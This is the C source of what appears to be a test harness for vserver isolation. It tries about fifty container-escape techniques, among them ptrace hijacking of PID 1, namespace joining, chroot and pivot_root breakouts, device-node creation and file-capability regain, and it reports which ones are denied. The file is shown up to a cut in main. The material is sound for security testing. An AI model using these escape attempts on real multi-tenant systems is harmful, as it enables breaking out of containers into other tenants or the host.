/*
 * What somebody who is root inside a vserver tries: one attack for each line
 * of standard input, each in a process of its own, and what came of it:
 * "LINE: done" or "LINE: denied (why)". Linked statically, to be found
 * wherever the attacker is. None does harm where it succeeds.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/kcmp.h>
#include <linux/keyctl.h>
#include <linux/mount.h>
#include <linux/nsfs.h>
#include <linux/perf_event.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/io.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

/* From <sys/mount.h>, which cannot be included beside <linux/mount.h>. */
int mount(const char *source, const char *target, const char *type,
	  unsigned long flags, const void *data);
int umount2(const char *target, int flags);
#define DETACH_LAZILY 2

#ifndef NS_MNT_GET_NEXT
#define NS_MNT_GET_NEXT _IOR(0xb7, 11, char[16])
#define NS_MNT_GET_PREV _IOR(0xb7, 12, char[16])
#endif
#ifndef SO_PEERPIDFD
#define SO_PEERPIDFD 77
#endif
#ifndef MOUNT_ATTR_IDMAP
#define MOUNT_ATTR_IDMAP 0x00100000
#endif

/* The outcome of an attack: 0 is success, else -errno, or this. */
#define BROKEN 1

static char detail[512];

static void note(const char *text)
{
	size_t length = strlen(detail);

	snprintf(detail + length, sizeof(detail) - length, " %s", text);
}

static int done_if(long rc)
{
	return rc < 0 ? -errno : 0;
}

static int number(const char *text)
{
	return (int)strtol(text, NULL, 0);
}

/* Files that only the host has, or another tenant, at their roots. */
static bool is_outside(void)
{
	if (access("/HOST-ONLY", F_OK) < 0 && access("/OTHER-ONLY", F_OK) < 0)
		return false;
	note("outside");
	return true;
}

static int pidfd_open(const char *pid)
{
	return (int)syscall(SYS_pidfd_open, number(pid), 0);
}

/* --- processes ------------------------------------------------------------ */

static int try_ptrace(char **args)
{
	pid_t pid = number(args[0]);

	if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0)
		return -errno;
	waitpid(pid, NULL, __WALL);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return 0;
}

static int try_seize(char **args)
{
	return done_if(ptrace(PTRACE_SEIZE, number(args[0]), 0, 0));
}

/* That nothing is there to be read is said only to those who may read. */
static int touch_memory(int how, const char *pid)
{
	char byte = 0;
	struct iovec here = { &byte, 1 }, there = { (void *)16, 1 };

	if (syscall(how, number(pid), &here, 1, &there, 1, 0) < 0 &&
	    errno != EFAULT)
		return -errno;
	return 0;
}

static int try_readv(char **args)
{
	return touch_memory(SYS_process_vm_readv, args[0]);
}

static int try_writev(char **args)
{
	return touch_memory(SYS_process_vm_writev, args[0]);
}

static int try_getfd(char **args)
{
	int pidfd = pidfd_open(args[0]);

	if (pidfd < 0)
		return -errno;
	return done_if(syscall(SYS_pidfd_getfd, pidfd, 0, 0));
}

static int try_kcmp(char **args)
{
	return done_if(
		syscall(SYS_kcmp, getpid(), number(args[0]), KCMP_VM, 0, 0));
}

static int measure(pid_t pid, int cpu)
{
	struct perf_event_attr attr = {
		.type = PERF_TYPE_SOFTWARE,
		.size = sizeof(attr),
		.config = PERF_COUNT_SW_CPU_CLOCK,
		.disabled = 1,
	};

	attr.exclude_kernel = pid >= 0;
	attr.exclude_hv = 1;
	return done_if(syscall(SYS_perf_event_open, &attr, pid, cpu, -1, 0));
}

static int try_perf(char **args)
{
	return measure(number(args[0]), -1);
}

static int try_perf_all(char **args)
{
	(void)args;
	return measure(-1, 0);
}

/* One of its files in /proc: found, opened, and read where it can be. */
static bool read_file(int directory, const char *name)
{
	char byte;
	int fd;

	/* Links lead to what need not be readable. */
	if (strchr("rcefn", *name) && strcmp(name, "environ") != 0)
		return openat(directory, name, O_PATH) >= 0;
	fd = openat(directory, name, O_RDONLY);
	return fd >= 0 && (strcmp(name, "mem") == 0 || read(fd, &byte, 1) >= 0);
}

static int try_proc(char **args)
{
	static const char *const names[] = {
		"mem",	   "environ", "maps",	"smaps",  "pagemap", "auxv",
		"syscall", "stack",   "io",	"fd/0",	  "fd/3",    "fd/5",
		"root",	   "root/..", "cwd",	"cwd/..", "exe",     "ns/mnt",
		"ns/user", "ns/pid",  "ns/net", "ns/ipc", "ns/uts",  "ns/time",
	};
	char path[64];
	bool any = false;
	int directory;
	size_t i;

	snprintf(path, sizeof(path), "/proc/%s", args[0]);
	directory = open(path, O_PATH | O_DIRECTORY);
	if (directory < 0)
		return -errno;
	for (i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		if (!read_file(directory, names[i]))
			continue;
		note(names[i]);
		any = true;
	}
	return any ? 0 : -EACCES;
}

static int try_signal(char **args)
{
	int pidfd = pidfd_open(args[0]);

	if (kill(number(args[0]), 0) == 0)
		return 0;
	return done_if(syscall(SYS_pidfd_send_signal, pidfd, 0, NULL, 0));
}

/* Not only asked whether one may. */
static int try_kill(char **args)
{
	return done_if(kill(number(args[0]), SIGKILL));
}

static int try_limit(char **args)
{
	struct rlimit old;

	return done_if(prlimit(number(args[0]), RLIMIT_CORE, NULL, &old));
}

/* Everybody that can be: none must be on another side. */
static int try_everybody(char **args)
{
	int pid, found = 0;
	char text[32];

	(void)args;
	for (pid = 1; pid < 32768; pid++)
		found += kill(pid, 0) == 0 || errno == EPERM;
	snprintf(text, sizeof(text), "%d", found);
	note(text);
	return 0;
}

/* A library's exit would stop the tracer; this ends process 1 with it. */
static int try_end_init(char **args)
{
	(void)args;
	return done_if(ptrace(PTRACE_SEIZE, 1, 0, PTRACE_O_EXITKILL));
}

/*
 * Process 1 waits in a system call: from there it is made to do another. Then
 * its namespaces are no longer those it was given.
 */
static int try_move_init(char **args)
{
#ifdef __x86_64__
	struct user_regs_struct saved, regs;

	(void)args;
	if (ptrace(PTRACE_ATTACH, 1, 0, 0) < 0)
		return -errno;
	waitpid(1, NULL, __WALL);
	if (ptrace(PTRACE_GETREGS, 1, 0, &saved) < 0)
		return -errno;
	regs = saved;
	regs.rip -= 2;
	regs.orig_rax = (unsigned long)-1;
	regs.rax = SYS_unshare;
	regs.rdi = CLONE_NEWUSER | CLONE_NEWNS;
	if (ptrace(PTRACE_SETREGS, 1, 0, &regs) < 0 ||
	    ptrace(PTRACE_SINGLESTEP, 1, 0, 0) < 0)
		return -errno;
	waitpid(1, NULL, __WALL);
	ptrace(PTRACE_GETREGS, 1, 0, &regs);
	errno = regs.rax ? -(int)regs.rax : 0;
	ptrace(PTRACE_SETREGS, 1, 0, &saved);
	ptrace(PTRACE_DETACH, 1, 0, 0);
	return -errno;
#else
	return try_end_init(args);
#endif
}

/* --- namespaces ----------------------------------------------------------- */

static const struct {
	const char *name;
	int flag;
} kinds[] = {
	{ "user", CLONE_NEWUSER },     { "mnt", CLONE_NEWNS },
	{ "pid", CLONE_NEWPID },       { "net", CLONE_NEWNET },
	{ "ipc", CLONE_NEWIPC },       { "uts", CLONE_NEWUTS },
	{ "cgroup", CLONE_NEWCGROUP },
};
#define KINDS (sizeof(kinds) / sizeof(kinds[0]))

/* Each namespace of a process, by its file and by a pidfd. */
static int try_join(char **args)
{
	int pidfd = pidfd_open(args[0]), code = -ENOENT;
	bool any = false;
	char path[64];
	size_t i;

	for (i = 0; i < KINDS; i++) {
		int fd;

		snprintf(path, sizeof(path), "/proc/%s/ns/%s", args[0],
			 kinds[i].name);
		fd = open(path, O_RDONLY);
		if ((fd >= 0 && setns(fd, kinds[i].flag) == 0) ||
		    (pidfd >= 0 && setns(pidfd, kinds[i].flag) == 0)) {
			note(kinds[i].name);
			any = true;
		} else {
			code = -errno;
		}
	}
	is_outside();
	return any ? 0 : code;
}

/* From our own to what is above it, beside it, or whose it is. */
static int try_relatives(char **args)
{
	static const unsigned long ways[] = { NS_GET_PARENT, NS_MNT_GET_NEXT,
					      NS_MNT_GET_PREV };
	bool any = false;
	char path[64];
	size_t i, way;

	(void)args;
	for (i = 0; i < KINDS; i++) {
		int fd;

		snprintf(path, sizeof(path), "/proc/self/ns/%s", kinds[i].name);
		fd = open(path, O_RDONLY);
		for (way = 0; way < sizeof(ways) / sizeof(ways[0]); way++) {
			char info[64] = { 16 };
			int found = fd, steps;

			for (steps = 0; found >= 0 && steps < 64; steps++) {
				found = ioctl(found, ways[way], info);
				if (found < 0 ||
				    setns(found, kinds[i].flag) < 0)
					continue;
				note(kinds[i].name);
				any = true;
			}
		}
	}
	return is_outside() || any ? 0 : -EPERM;
}

/* By its number: since 6.18 namespaces have file handles. */
static int try_numbers(char **args)
{
	struct {
		struct file_handle handle;
		uint64_t id;
		uint32_t type, inode;
	} wanted = { { .handle_bytes = 16, .handle_type = 0xf1 }, 0, 0, 0 };
	size_t i;

	(void)args;
	for (wanted.id = 1; wanted.id < 4096; wanted.id++) {
		int fd = open_by_handle_at(-10003, &wanted.handle, O_RDONLY);

		for (i = 0; fd >= 0 && i < KINDS; i++)
			setns(fd, kinds[i].flag);
		if (fd >= 0)
			close(fd);
	}
	return is_outside() ? 0 : -EPERM;
}

/* --- mounts and directories ----------------------------------------------- */

static int change_mount(const char *path, uint64_t set, uint64_t clear)
{
	struct mount_attr attr = { .attr_set = set, .attr_clr = clear };

	return done_if(syscall(SYS_mount_setattr, AT_FDCWD, path, 0, &attr,
			       sizeof(attr)));
}

static uint64_t flag_of(const char *name)
{
	static const struct {
		const char *name;
		uint64_t flag;
	} flags[] = {
		{ "ro", MOUNT_ATTR_RDONLY },
		{ "nosuid", MOUNT_ATTR_NOSUID },
		{ "nodev", MOUNT_ATTR_NODEV },
		{ "noexec", MOUNT_ATTR_NOEXEC },
	};
	size_t i;

	for (i = 0; i < sizeof(flags) / sizeof(flags[0]); i++)
		if (strcmp(flags[i].name, name) == 0)
			return flags[i].flag;
	return 0;
}

/* Both ways to take a flag away; in a copy, too. */
static int try_clear(char **args)
{
	int rc = change_mount(args[1], 0, flag_of(args[0]));

	if (rc == 0 || mount(NULL, args[1], NULL, 4096 | 32, NULL) == 0)
		return 0;
	if (mount(args[1], "/mnt", NULL, 4096, NULL) < 0)
		return rc;
	return change_mount("/mnt", 0, flag_of(args[0]));
}

static int try_umount(char **args)
{
	return done_if(umount2(args[0], DETACH_LAZILY));
}

/* A copy of a mount alone shows what other mounts cover. */
static int try_uncover(char **args)
{
	int fd =
		(int)syscall(SYS_open_tree, AT_FDCWD, args[0], OPEN_TREE_CLONE);

	if (fd >= 0 || mount(args[0], "/mnt", NULL, 4096, NULL) == 0)
		return 0;
	return done_if(mount(args[0], "/mnt", NULL, 8192, NULL));
}

/* mount TYPE SOURCE DATA, "-" for none */
static int try_mount(char **args)
{
	if (strcmp(args[2], "-") == 0)
		args[2] = NULL;
	return done_if(mount(args[1], "/mnt", args[0], 1, args[2]));
}

/* A mount of one's own that says whose files are whose. */
static int try_idmap(char **args)
{
	struct mount_attr attr = { .attr_set = MOUNT_ATTR_IDMAP };
	int tree =
		(int)syscall(SYS_open_tree, AT_FDCWD, args[0], OPEN_TREE_CLONE);
	int user = open("/proc/self/ns/user", O_RDONLY);

	if (tree < 0 || user < 0)
		return -errno;
	attr.userns_fd = (unsigned)user;
	return done_if(syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH,
			       &attr, sizeof(attr)));
}

/* Up and up from a directory that is not below the root any more. */
static int try_chroot(char **args)
{
	int i;

	(void)args;
	mkdir("/tmp/jail", 0700);
	if (chroot("/tmp/jail") < 0)
		return -errno;
	for (i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return -errno;
	if (chroot(".") < 0)
		return -errno;
	return is_outside() ? 0 : -EPERM;
}

/* The same with a root of one's own, and what was mounted below ours. */
static int try_pivot(char **args)
{
	int i;

	(void)args;
	if (unshare(CLONE_NEWNS) < 0)
		return -errno;
	mkdir("/tmp/new", 0700);
	mount("/tmp/new", "/tmp/new", NULL, 4096, NULL);
	mkdir("/tmp/new/old", 0700);
	if (chdir("/tmp/new") < 0 || syscall(SYS_pivot_root, ".", "old") < 0)
		return -errno;
	if (umount2("/old", DETACH_LAZILY) == 0 && is_outside())
		return 0;
	if (chdir("/old") < 0)
		return -errno;
	for (i = 0; i < 64; i++)
		(void)!chdir("..");
	(void)!chroot(".");
	return is_outside() ? 0 : -EPERM;
}

static void print_handle(const struct file_handle *handle)
{
	unsigned i;

	printf("%d:", handle->handle_type);
	for (i = 0; i < handle->handle_bytes; i++)
		printf("%02x", handle->f_handle[i]);
	putchar('\n');
}

union handle {
	struct file_handle handle;
	char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
};

/* handle PATH: what "byhandle" asks for. */
static int show_handle(const char *path)
{
	union handle found = { .handle.handle_bytes = MAX_HANDLE_SZ };
	int id;

	if (name_to_handle_at(AT_FDCWD, path, &found.handle, &id, 0) < 0) {
		perror(path);
		return 1;
	}
	print_handle(&found.handle);
	return 0;
}

/* byhandle PATH HANDLE: a file of PATH's filesystem, wherever it is. */
static int try_byhandle(char **args)
{
	union handle wanted = { .handle.handle_type = number(args[1]) };
	const char *hex = strchr(args[1], ':');
	int at = open(args[0], O_RDONLY | O_DIRECTORY);
	unsigned byte;

	if (!hex || at < 0)
		return BROKEN;
	for (hex++; sscanf(hex, "%2x", &byte) == 1; hex += 2)
		wanted.handle.f_handle[wanted.handle.handle_bytes++] =
			(unsigned char)byte;
	if (open_by_handle_at(at, &wanted.handle, O_RDONLY) >= 0)
		return 0;
	return done_if(
		open_by_handle_at(at, &wanted.handle, O_RDONLY | O_DIRECTORY));
}

static int try_read(char **args)
{
	char byte;
	int fd = open(args[0], O_RDONLY | O_NONBLOCK);

	if (fd < 0)
		return -errno;
	return read(fd, &byte, 1) < 0 && errno != EISDIR ? -errno : 0;
}

static int try_write(char **args)
{
	return done_if(open(args[0], O_WRONLY | O_NONBLOCK));
}

static int try_create(char **args)
{
	return done_if(open(args[0], O_WRONLY | O_CREAT, 0600));
}

static int try_exec(char **args)
{
	execv(args[0], args);
	return -errno;
}

/* A process with nothing of what his vserver's are known by. */
static int try_hide(char **args)
{
	(void)args;
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0 ||
	    mount("hidden", "/mnt", "tmpfs", 0, NULL) < 0 ||
	    chdir("/mnt") < 0 || chroot(".") < 0)
		return -errno;
	if (fork() != 0)
		return 0;
	setsid();
	prctl(PR_SET_NAME, "hidden");
	close_range(0, ~0U, 0);
	for (;;)
		pause();
}

/* --- devices -------------------------------------------------------------- */

/* mknod b MAJOR MINOR DIRECTORY: opening it may be another matter. */
static int try_mknod(char **args)
{
	dev_t device =
		makedev((unsigned)number(args[1]), (unsigned)number(args[2]));
	char path[256];

	snprintf(path, sizeof(path), "%s/node", args[3]);
	unlink(path);
	return done_if(mknod(path, (*args[0] == 'b' ? S_IFBLK : S_IFCHR) | 0666,
			     device));
}

/* A filesystem of one's own, where nobody has said "nodev". */
static int try_mknod_tmpfs(char **args)
{
	char *again[] = { args[0], args[1], args[2], (char *)"/mnt" };

	if (mount("mine", "/mnt", "tmpfs", 0, NULL) < 0)
		return -errno;
	return try_mknod(again);
}

/* --- the kernel ----------------------------------------------------------- */

/* Where it is allowed, the kernel finds that there is nothing to be loaded. */
static int try_module(char **args)
{
	char nothing[16] = "";

	(void)args;
	syscall(SYS_init_module, nothing, sizeof(nothing), "");
	return errno == EPERM || errno == ENOSYS ? -errno : 0;
}

static int try_kexec(char **args)
{
	(void)args;
	syscall(SYS_kexec_load, 0, 17, NULL, 0);
	return errno == EPERM || errno == ENOSYS ? -errno : 0;
}

/* No such command: who may not is told so before. */
static int try_reboot(char **args)
{
	(void)args;
	syscall(SYS_reboot, 0xfee1dead, 672274793, 0x12345, NULL);
	return errno == EPERM ? -EPERM : 0;
}

static int try_swap(char **args)
{
	(void)args;
	syscall(SYS_swapoff, "/nowhere");
	return errno == EPERM ? -EPERM : 0;
}

static int try_clock(char **args)
{
	struct timespec now;

	(void)args;
	clock_gettime(CLOCK_REALTIME, &now);
	return done_if(clock_settime(CLOCK_REALTIME, &now));
}

static int try_hostname(char **args)
{
	char name[256] = "";

	(void)args;
	gethostname(name, sizeof(name) - 1);
	return done_if(sethostname(name, strlen(name)));
}

static int try_syslog(char **args)
{
	(void)args;
	/* SYSLOG_ACTION_OPEN, which does nothing. */
	return done_if(syscall(SYS_syslog, 1, NULL, 0));
}

static int try_ports(char **args)
{
	(void)args;
#ifdef __x86_64__
	return done_if(iopl(3));
#else
	return -ENOSYS;
#endif
}

static int try_realtime(char **args)
{
	struct sched_param param = { .sched_priority = 1 };

	(void)args;
	return done_if(sched_setscheduler(0, SCHED_FIFO, &param));
}

static int try_bpf(char **args)
{
	struct bpf_insn code[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	static const char license[] = "GPL";
	union bpf_attr attr = {
		.prog_type = BPF_PROG_TYPE_KPROBE,
		.insns = (uintptr_t)code,
		.insn_cnt = 2,
		.license = (uintptr_t)license,
	};

	(void)args;
	return done_if(syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr)));
}

static int try_raw(char **args)
{
	(void)args;
	if (socket(AF_PACKET, SOCK_RAW, 0) < 0)
		return -errno;
	return done_if(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
}

static int try_interface(char **args)
{
	struct ifreq request = { .ifr_name = "lo" };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	(void)args;
	if (fd < 0 || ioctl(fd, SIOCGIFFLAGS, &request) < 0)
		return BROKEN;
	return done_if(ioctl(fd, SIOCSIFFLAGS, &request));
}

static int try_port(char **args)
{
	struct sockaddr_in address = {
		.sin_family = AF_INET,
		.sin_port = htons((uint16_t)number(args[0])),
	};
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	return done_if(connect(fd, (void *)&address, sizeof(address)));
}

/* --- what is shared ------------------------------------------------------- */

static socklen_t abstract(struct sockaddr_un *address, const char *name)
{
	memset(address, 0, sizeof(*address));
	address->sun_family = AF_UNIX;
	snprintf(address->sun_path + 1, sizeof(address->sun_path) - 1, "%s",
		 name);
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 +
			   strlen(name));
}

static int connect_to(const char *name)
{
	struct sockaddr_un address;
	socklen_t length = abstract(&address, name);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	return connect(fd, (void *)&address, length) < 0 ? -1 : fd;
}

static int try_connect(char **args)
{
	return done_if(connect_to(args[0]));
}

static int try_shm(char **args)
{
	return done_if(shmget(number(args[0]), 0, 0));
}

/* key SERIAL: a key of the host's. */
static int try_key(char **args)
{
	char text[64] = "";

	return done_if(syscall(SYS_keyctl, KEYCTL_READ, number(args[0]), text,
			       sizeof(text) - 1, 0));
}

/* search NAME: by the keyrings that this process's user has. */
static int try_search(char **args)
{
	static const int rings[] = { KEY_SPEC_SESSION_KEYRING,
				     KEY_SPEC_USER_KEYRING,
				     KEY_SPEC_USER_SESSION_KEYRING,
				     KEY_SPEC_PROCESS_KEYRING };
	size_t i;

	for (i = 0; i < sizeof(rings) / sizeof(rings[0]); i++)
		if (syscall(SYS_keyctl, KEYCTL_SEARCH, rings[i], "user",
			    args[0], 0) >= 0)
			return 0;
	return -errno;
}

static int add_key(const char *name)
{
	long serial = syscall(SYS_add_key, "user", name, "secret", 6,
			      KEY_SPEC_USER_KEYRING);

	if (serial < 0) {
		perror("add_key");
		return 1;
	}
	printf("%ld\n", serial);
	return 0;
}

/* Who is at the other end of a socket: a pidfd, and what it is good for. */
static int try_peer(char **args)
{
	int fd = -1, pidfd = -1, tries;
	socklen_t length = sizeof(pidfd);
	bool any = false;
	size_t i;

	for (tries = 0; fd < 0 && tries < 100; tries++)
		fd = connect_to(args[0]);
	if (fd < 0 ||
	    getsockopt(fd, SOL_SOCKET, SO_PEERPIDFD, &pidfd, &length) < 0)
		return -errno;
	for (i = 0; i < KINDS; i++)
		any |= setns(pidfd, kinds[i].flag) == 0;
	any |= syscall(SYS_pidfd_getfd, pidfd, 0, 0) >= 0;
	any |= syscall(SYS_pidfd_send_signal, pidfd, 0, NULL, 0) == 0;
	is_outside();
	return any ? 0 : -EPERM;
}

/* --- /proc ---------------------------------------------------------------- */

static bool is_process(const char *name)
{
	return *name >= '0' && *name <= '9';
}

static bool found_one;

/* A write of nothing: EIO or so where the file has no use for one. */
static void try_to_write(const char *path)
{
	int fd = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY);

	if (fd < 0)
		return;
	if (write(fd, "", 0) == 0 || (errno != EIO && errno != EPERM)) {
		puts(path);
		found_one = true;
	}
	close(fd);
}

static void walk(const char *path)
{
	DIR *directory = opendir(path);
	struct dirent *entry;
	char below[4096];

	while (directory && (entry = readdir(directory))) {
		if (entry->d_name[0] == '.' ||
		    (strcmp(path, "/proc") == 0 && is_process(entry->d_name)))
			continue;
		snprintf(below, sizeof(below), "%s/%s", path, entry->d_name);
		if (entry->d_type == DT_DIR)
			walk(below);
		else if (entry->d_type == DT_REG)
			try_to_write(below);
	}
	if (directory)
		closedir(directory);
}

/* All of /proc but processes; their network's files are behind a link. */
static int try_walk(char **args)
{
	(void)args;
	walk("/proc");
	walk("/proc/self/net");
	return found_one ? 0 : -EROFS;
}

/* --- getting power back --------------------------------------------------- */

static uint64_t capabilities(const char *which)
{
	char line[256], wanted[16];
	uint64_t set = 0;
	FILE *file = fopen("/proc/self/status", "r");

	snprintf(wanted, sizeof(wanted), "%s:", which);
	while (file && fgets(line, sizeof(line), file))
		if (strncmp(line, wanted, strlen(wanted)) == 0)
			set = strtoull(line + strlen(wanted), NULL, 16);
	if (file)
		fclose(file);
	return set;
}

static int show_power(void)
{
	printf("%016llx %016llx\n", (unsigned long long)capabilities("CapPrm"),
	       (unsigned long long)capabilities("CapBnd"));
	return 0;
}

/* regain DIRECTORY: all capabilities on a file, and executed. */
static int try_filecaps(char **args)
{
	static const uint32_t all[] = { 0x02000001, ~0U, 0, ~0U >> 23, 0 };
	char copy[256];
	pid_t pid;
	int status;

	snprintf(copy, sizeof(copy), "%s/powerful", args[0]);
	if (setxattr(copy, "security.capability", all, sizeof(all), 0) < 0)
		return -errno;
	pid = fork();
	if (pid == 0) {
		execl(copy, copy, "is-powerful", NULL);
		_exit(1);
	}
	waitpid(pid, &status, 0);
	return status == 0 ? 0 : -EPERM;
}

/* --- other tenants and the host's users ----------------------------------- */

/* offer NAME FILE: whoever connects gets an open FILE. */
static int offer(char **args)
{
	char space[CMSG_SPACE(sizeof(int))] = { 0 };
	struct iovec byte = { (void *)"", 1 };
	struct msghdr message = {
		.msg_iov = &byte,
		.msg_iovlen = 1,
		.msg_control = space,
		.msg_controllen = sizeof(space),
	};
	struct cmsghdr *control = CMSG_FIRSTHDR(&message);
	int listener = socket(AF_UNIX, SOCK_STREAM, 0);
	struct sockaddr_un address;
	socklen_t length = abstract(&address, args[0]);
	int file = open(args[1], O_PATH), peer;

	if (file < 0 || bind(listener, (void *)&address, length) < 0 ||
	    listen(listener, 8) < 0) {
		perror("offer");
		return 1;
	}
	control->cmsg_level = SOL_SOCKET;
	control->cmsg_type = SCM_RIGHTS;
	control->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(control), &file, sizeof(int));
	while ((peer = accept(listener, NULL, NULL)) >= 0) {
		sendmsg(peer, &message, 0);
		close(peer);
	}
	return 1;
}

/* take NAME: executes what it is given, or "suid" in it. */
static int take(char **args)
{
	char space[CMSG_SPACE(sizeof(int))] = { 0 }, byte;
	struct iovec into = { &byte, 1 };
	struct msghdr message = {
		.msg_iov = &into,
		.msg_iovlen = 1,
		.msg_control = space,
		.msg_controllen = sizeof(space),
	};
	char *const argv[] = { (char *)"tenant", (char *)"whoami", NULL };
	char *const envp[] = { NULL };
	int file, fd = connect_to(args[0]);

	if (fd < 0 || recvmsg(fd, &message, 0) <= 0 ||
	    !CMSG_FIRSTHDR(&message)) {
		perror("take");
		return 1;
	}
	memcpy(&file, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof(int));
	syscall(SYS_execveat, file, "", argv, envp, AT_EMPTY_PATH);
	syscall(SYS_execveat, file, "suid", argv, envp, 0);
	perror("execveat");
	return 1;
}

/* listen NAME: whoever connects is left waiting. */
static int listen_for_ever(char **args)
{
	int listener = socket(AF_UNIX, SOCK_STREAM, 0);
	struct sockaddr_un address;
	socklen_t length = abstract(&address, args[0]);

	if (bind(listener, (void *)&address, length) < 0 ||
	    listen(listener, 8) < 0) {
		perror("listen");
		return 1;
	}
	for (;;)
		pause();
}

static int share_memory(char **args)
{
	return shmget(number(args[0]), 4096, IPC_CREAT | 0666) < 0;
}

/* fill: all the inotify instances this user may have, and for how long. */
static int fill(char **args)
{
	int count = 0;

	(void)args;
	while (inotify_init() >= 0)
		count++;
	printf("%d\n", count);
	fflush(stdout);
	pause();
	return 0;
}

static int try_inotify(char **args)
{
	(void)args;
	return done_if(inotify_init());
}

/* overwrite FD SECONDS: a program that nobody executes can be written to. */
static int try_overwrite(char **args)
{
	char path[64];
	time_t end = time(NULL) + number(args[1]);

	snprintf(path, sizeof(path), "/proc/self/fd/%s", args[0]);
	for (;;) {
		struct timespec moment = { 0, 10000000 };

		if (open(path, O_WRONLY) >= 0)
			return 0;
		if (errno != ETXTBSY || time(NULL) > end)
			return -errno;
		nanosleep(&moment, NULL);
	}
}

/* --- which there are ------------------------------------------------------ */

static const struct attack {
	const char *name;
	int arguments;
	int (*attempt)(char **args);
} attacks[] = {
	{ "ptrace", 1, try_ptrace },
	{ "seize", 1, try_seize },
	{ "readv", 1, try_readv },
	{ "writev", 1, try_writev },
	{ "getfd", 1, try_getfd },
	{ "kcmp", 1, try_kcmp },
	{ "perf", 1, try_perf },
	{ "perf-all", 0, try_perf_all },
	{ "proc", 1, try_proc },
	{ "signal", 1, try_signal },
	{ "kill", 1, try_kill },
	{ "limit", 1, try_limit },
	{ "everybody", 0, try_everybody },
	{ "end-init", 0, try_end_init },
	{ "move-init", 0, try_move_init },
	{ "join", 1, try_join },
	{ "relatives", 0, try_relatives },
	{ "numbers", 0, try_numbers },
	{ "clear", 2, try_clear },
	{ "umount", 1, try_umount },
	{ "uncover", 1, try_uncover },
	{ "mount", 3, try_mount },
	{ "idmap", 1, try_idmap },
	{ "chroot", 0, try_chroot },
	{ "pivot", 0, try_pivot },
	{ "byhandle", 2, try_byhandle },
	{ "read", 1, try_read },
	{ "write", 1, try_write },
	{ "create", 1, try_create },
	{ "exec", 1, try_exec },
	{ "hide", 0, try_hide },
	{ "mknod", 4, try_mknod },
	{ "mknod-tmpfs", 3, try_mknod_tmpfs },
	{ "module", 0, try_module },
	{ "kexec", 0, try_kexec },
	{ "reboot", 0, try_reboot },
	{ "swap", 0, try_swap },
	{ "clock", 0, try_clock },
	{ "hostname", 0, try_hostname },
	{ "syslog", 0, try_syslog },
	{ "ports", 0, try_ports },
	{ "realtime", 0, try_realtime },
	{ "bpf", 0, try_bpf },
	{ "raw", 0, try_raw },
	{ "interface", 0, try_interface },
	{ "port", 1, try_port },
	{ "connect", 1, try_connect },
	{ "shm", 1, try_shm },
	{ "key", 1, try_key },
	{ "search", 1, try_search },
	{ "peer", 1, try_peer },
	{ "inotify", 0, try_inotify },
	{ "walk", 0, try_walk },
	{ "filecaps", 1, try_filecaps },
	{ "overwrite", 2, try_overwrite },
};

/* "nest": what follows is tried with all power in a user namespace. */
static int nest(void)
{
	/* Ids are not mapped: without CAP_SETFCAP ours must not be. */
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) < 0)
		return -errno;
	if (mount(NULL, "/", NULL, 16384 | (1 << 18), NULL) < 0)
		return -errno;
	return 0;
}

static int attempt(char *line)
{
	char *args[8] = { NULL };
	char *word = strtok(line, " ");
	bool nested = word && strcmp(word, "nest") == 0;
	size_t i;
	int count = 0, rc;

	if (nested)
		word = strtok(NULL, " ");
	for (i = 0; word && i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		if (strcmp(attacks[i].name, word) != 0)
			continue;
		while (count < 7 && (args[count] = strtok(NULL, " ")))
			count++;
		if (count != attacks[i].arguments)
			return BROKEN;
		rc = nested ? nest() : 0;
		return rc < 0 ? rc : attacks[i].attempt(args);
	}
	return BROKEN;
}

static _Noreturn void attempt_and_tell(const char *line, int channel)
{
	char copy[1024];
	int rc;

	alarm(30);
	snprintf(copy, sizeof(copy), "%s", line);
	rc = attempt(copy);
	if (rc == 0)
		dprintf(channel, "%s: done%s\n", line, detail);
	else if (rc < 0)
		dprintf(channel, "%s: denied (%s)\n", line, strerror(-rc));
	_exit(rc == BROKEN);
}

/* Some attackers leave /, or lose their output: it is passed back. */
static int batch(void)
{
	char line[1024];
	int status;

	setvbuf(stdout, NULL, _IONBF, 0);
	while (fgets(line, sizeof(line), stdin)) {
		pid_t pid;

		line[strcspn(line, "\n")] = '\0';
		if (!*line)
			continue;
		pid = fork();
		if (pid == 0)
			attempt_and_tell(line, 1);
		if (pid < 0 || waitpid(pid, &status, 0) != pid || status != 0)
			printf("%s: broken (%d)\n", line, status);
	}
	return 0;
}

int main(int argc, char **argv)
{
	const char *command = argc > 1 ? argv[1] : "";

	if (strcmp(command, "batch") == 0)
		return batch();
	if (strcmp(command, "power") == 0)
		return show_power();
	if (strcmp(command, "is-powerful") == 0)
		return !(capabilities("CapPrm") >> 21 & 1);
